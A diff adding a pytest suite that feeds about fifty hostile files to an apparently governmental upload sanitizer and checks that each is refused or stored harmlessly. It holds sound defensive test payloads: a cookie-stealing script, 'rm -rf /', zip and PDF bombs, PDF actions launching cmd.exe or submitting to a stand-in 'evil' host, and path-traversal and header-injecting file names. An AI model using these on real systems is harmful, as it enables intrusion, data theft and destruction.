@@ -1,0 +1,208 @@
+"""Forty files that mean harm, made in memory: each is refused with its cure or stored so that it can do nothing."""
+
+import io
+import struct
+import zipfile
+import zlib
+
+import pytest
+from PIL import Image
+from PIL.PngImagePlugin import PngInfo
+
+from apps.applications import actions
+from apps.applications.models import Attachment
+from apps.applications.uploads import Limits, fit, together
+from apps.gateway.twins import EICAR
+from apps.kit import files
+from apps.kit.errors import Refused
+from tests import make
+from tests.people import nothing_written
+from tests.web.citizen.test_apply_from_home import browser
+
+PDF = b"%PDF-1.4\n1 0 obj<</Type /Page>>endobj\ntrailer<<>>\n%%EOF\n"
+SCRIPT = b"<html><script>alert(document.cookie)</script></html>"
+
+
+def picture(kind="PNG", size=(3, 2), **given) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, "red").save(out, kind, **given)
+    return out.getvalue()
+
+
+def photo(orientation=1, size=(4, 2), note="拍摄于白沙路 1 号") -> bytes:
+    exif = Image.Exif()
+    exif[0x0112], exif[0x010E] = orientation, note
+    exif.get_ifd(0x8825).update({1: "N", 2: (30.0, 10.0, 0.0)})
+    return picture("JPEG", size, exif=exif)
+
+
+def chunk(name: bytes, body: bytes) -> bytes:
+    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+
+
+def png_of(width: int, height: int, body: bytes = b"") -> bytes:
+    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(body)) + chunk(b"IEND", b"")
+
+
+def noted_png(text: str) -> bytes:
+    info = PngInfo()
+    info.add_text("Comment", text, zip=True)
+    return picture(pnginfo=info)
+
+
+def zipped(name="a.txt", body=b"x" * 100) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
+        packed.writestr(name, body)
+    return out.getvalue()
+
+
+def pdf(described: bytes, stream: bytes = b"", names: bytes = b"") -> bytes:
+    body = b"1 0 obj<<%s>>stream\n%s\nendstream endobj\n" % (described, stream) if described else b""
+    return b"%PDF-1.5\n" + body + b"2 0 obj<<%s>>endobj\ntrailer<<>>\n%%%%EOF\n" % names
+
+
+def hidden(names: bytes) -> bytes:
+    """A PDF whose objects lie compressed."""
+    return pdf(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"3 0 <<%s>>" % names))
+
+
+MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "WordDocument".encode("utf-16-le") + b"\0" * 600
+# what it is: (bytes, the name it comes under, the code of the refusal or "" when it is stored, a word of the cure or of the note)
+FILES = {
+    "nothing": (b"", "身份证.png", "attach.empty", "重新扫描"),
+    "blanks": (b" " * 5000, "身份证.png", "attach.type", "真实内容"),
+    "page": (SCRIPT, "身份证.png", "attach.type", "真实内容"),
+    "page that calls itself an image": (SCRIPT, "a.jpg.html", "attach.type", "真实内容"),
+    "svg with a script": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "a.svg", "attach.type", "JPG"),
+    "xml with entities": (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ccc">]><a>&b;</a>', "a.pdf", "attach.type", "PDF"),
+    "program": (b"MZ\x90\x00" + b"\0" * 200, "营业执照.pdf.exe", "attach.type", "程序"),
+    "program of another system": (b"\x7fELF\x02\x01\x01" + b"\0" * 200, "a.png", "attach.type", "程序"),
+    "shell script": (b"#!/bin/sh\nrm -rf /\n", "a.png", "attach.type", "真实内容"),
+    "zip": (zipped(), "材料.zip", "attach.type", "解压"),
+    "zip bomb": (zipped(body=b"\0" * 5_000_000), "a.pdf", "attach.type", "解压"),
+    "rar": (b"Rar!\x1a\x07\x00" + b"\0" * 60, "a.rar", "attach.type", "解压"),
+    "gzip": (b"\x1f\x8b\x08" + b"\0" * 60, "a.jpg", "attach.type", "解压"),
+    "old office file with macros": (MACRO, "申请表.doc", "attach.type", "PDF"),
+    "office file with macros": (zipped("word/vbaProject.bin"), "申请表.docm", "attach.type", "PDF"),
+    "gif": (picture("GIF"), "a.gif", "attach.type", "转换"),
+    "gif in front of a pdf": (b"GIF89a" + PDF, "a.pdf", "attach.type", "PDF"),
+    "page in front of a pdf": (SCRIPT + PDF, "a.pdf", "attach.type", "PDF"),
+    "photo of an iphone": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 60, "a.jpg", "attach.type", "兼容性"),
+    "picture of half its bytes": (picture("JPEG", (400, 400))[:700], "a.jpg", "", "打不开"),
+    "head of a picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "a.png", "", "打不开"),
+    "picture with wrong sums": (picture().replace(b"IDAT", b"IDAX"), "a.png", "", "打不开"),
+    "picture of ten thousand million pixels": (png_of(100_000, 100_000), "a.png", "attach.pixels", "分辨率"),
+    "picture that grows": (png_of(20_000, 20_000, b"\0" * 1_000_000), "a.png", "attach.pixels", "分辨率"),
+    "note that grows": (
+        picture()[:-12] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 3_000_000)) + picture()[-12:],
+        "a.png",
+        "",
+        "打不开",
+    ),
+    "locked pdf": (PDF + b"/Encrypt 5 0 R", "a.pdf", "attach.active", "密码"),
+    "pdf with a script": (pdf(b"", names=b"/OpenAction<</S /JavaScript /JS (app.alert(1))>>"), "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf with a script spelt in escapes": (PDF + b"/S /J#61vaScript", "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf with a script among compressed objects": (hidden(b"/S /JavaScript /JS (x)"), "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf that starts a program": (pdf(b"", names=b"/S /Launch /F (cmd.exe)"), "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf that sends itself away": (hidden(b"/S /SubmitForm /F (http://evil)"), "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf with a film": (hidden(b"/Subtype /RichMedia"), "a.pdf", "attach.active", "打印成 PDF"),
+    "pdf whose objects are wrapped twice": (
+        pdf(b"/Type /ObjStm /Filter [/ASCIIHexDecode]", b"2f4a61766153637269707420>"), "a.pdf", "attach.active", "打印成 PDF",
+    ),
+    "pdf packed twice": (
+        pdf(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"\0" * 100_000))), "a.pdf", "attach.bomb", "打印成 PDF",
+    ),
+    "pdf whose objects grow": (
+        pdf(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"\0" * 17_000_000)), "a.pdf", "attach.bomb", "打印成 PDF",
+    ),
+    "zip behind a pdf": (PDF + zipped(), "a.pdf", "attach.mixed", "重新导出"),
+    "pdf of too many pages": (pdf(b"", names=b"/Type /Page " * 101), "a.pdf", "attach.pages", "分成几份"),
+    "the scanner's test file in a pdf": (PDF + EICAR, "a.pdf", "attach.infected", "杀毒"),
+    "page behind a picture": (picture() + SCRIPT, "x.html", "", ""),
+    "zip behind a photo": (picture("JPEG") + zipped(), "a.jpg", "", ""),
+    "script in the notes of a photo": (photo(note=SCRIPT.decode()), "a.jpg", "", ""),
+    "script in the notes of a picture": (noted_png(SCRIPT.decode()), "a.png", "", ""),
+    "photo with notes of a megabyte": (photo(note="x" * 60_000), "a.jpg", "", ""),
+    "pdf cut short": (PDF[:30], "a.pdf", "", ""),
+    "path": (picture(), "../../../etc/passwd", "", ""),
+    "path of another system": (picture(), "..\\..\\windows\\win.ini.png", "", ""),
+    "name that turns": (picture(), "身份证\u202egnp.exe", "", ""),
+    "name with lines": (picture(), "a\r\nContent-Type: text/html\r\n\r\n.png", "", ""),
+    "name of nothing": (picture(), "\0\u200b", "", ""),
+    "name without an end": (picture(), "名" * 3000 + ".png", "", ""),
+    "name of two kinds": (picture(), "a.php.png", "", ""),
+}  # fmt: skip
+
+
+def test_forty_hostile_files(world):
+    """As a citizen sends them; then every stored one is fetched as a clerk does."""
+    case, me = make.from_home(submit=False), make.actor("enterprise")
+    lines, stored, wrong = [entry.code for entry in case.materials.all()], [], []
+    assert len(FILES) >= 40
+    for place, (what, (content, name, code, cure)) in enumerate(FILES.items()):
+        given = {"application": case.pk, "material": lines[place % len(lines)], "name": name, "content": content}
+        try:
+            row = actions.attach(by=me, **given)
+            stored.append((what, row))
+            told = ("", row.note)
+        except Refused as refusal:
+            told = (refusal.code, refusal.message)
+        if told[0] != code or cure not in told[1]:
+            wrong.append((what, told))
+    assert wrong == []
+    client = browser("enterprise")
+    for what, row in stored:
+        answer = client.get(f"/files/attachment/{row.pk}/")
+        assert answer.status_code == 200, what
+        assert answer["Content-Disposition"].startswith("attachment; filename*=UTF-8''"), what
+        assert answer["X-Content-Type-Options"] == "nosniff" and "sandbox" in answer["Content-Security-Policy"]
+        assert answer["Content-Type"] in ("image/png", "image/jpeg", "application/pdf")
+        assert row.name.isprintable() and not set(row.name) & set("/\\") and len(row.name) <= 110, what
+        assert row.name.endswith((".png", ".jpg", ".pdf"))
+        assert b"script" not in answer.content and b"PK\x05\x06" not in answer.content, what
+        assert files.read(row.path) == answer.content
+
+
+def test_nothing_of_a_refused_file_is_kept(world):
+    case, me = make.from_home(submit=False), make.actor("enterprise")
+    with nothing_written(Attachment):
+        for content, name, code, _ in FILES.values():
+            if code and code != "attach.infected":
+                with pytest.raises(Refused):
+                    actions.attach(by=me, application=case.pk, material="id_card", name=name, content=content)
+
+
+@pytest.mark.parametrize("orientation", [3, 6, 8])
+def test_a_photo_is_turned_upright_and_tells_nothing_else(orientation):
+    kept = fit(photo(orientation, (40, 20))).content
+    upright = Image.open(io.BytesIO(kept))
+    assert upright.size == ((40, 20) if orientation == 3 else (20, 40))
+    assert not upright.getexif() and "白沙路".encode() not in kept
+
+
+def test_what_needs_no_mending_is_kept_byte_for_byte():
+    for content in (picture(), picture("JPEG"), PDF, picture("JPEG", dpi=(300, 300))):
+        assert fit(content).content == content
+
+
+def test_pictures_become_one_pdf_in_their_order():
+    paper = together([picture(size=(30, 20)), photo(6, (40, 20)), picture("JPEG", (2600, 2500))], Limits.of({}))
+    kept = fit(paper)
+    assert (kept.kind, kept.pages) == ("application/pdf", 3)
+    assert kept.content == paper
+    with pytest.raises(Refused, match="第 2 张") as told:
+        together([picture(), PDF], Limits.of({}))
+    assert told.value.code == "attach.type"
+
+
+def test_the_catalogue_sets_pages_and_size_of_a_material(settings):
+    assert Limits.of({"max_pages": 2, "max_mb": 1}) == Limits(2**20, 2)
+    assert Limits.of({"max_mb": 500}).size == settings.UPLOAD_LIMIT
+    with pytest.raises(Refused, match="最多 2 页"):
+        fit(pdf(b"", names=b"/Type /Page " * 3), Limits.of({"max_pages": 2}))
+    with pytest.raises(Refused, match="最多 2 页"):
+        together([picture()] * 3, Limits.of({"max_pages": 2}))
+    with pytest.raises(Refused, match="超过 1 MB"):
+        fit(PDF + b" " * 2**20, Limits.of({"max_mb": 1}))
